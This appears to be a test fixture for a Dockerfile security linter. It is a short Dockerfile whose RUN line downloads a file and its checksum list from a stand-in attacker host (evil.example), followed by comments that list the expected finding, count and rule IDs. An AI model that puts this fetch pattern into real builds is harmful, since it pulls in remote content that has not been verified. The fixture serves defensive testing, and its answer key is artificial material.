FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && curl -o SUMS https://evil.example/SUMS && sha256sum -c SUMS
USER app
# expect: download 2 high "a list the Dockerfile does not show"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR301-6e7ce1cc2d VR501-e064bac1a6
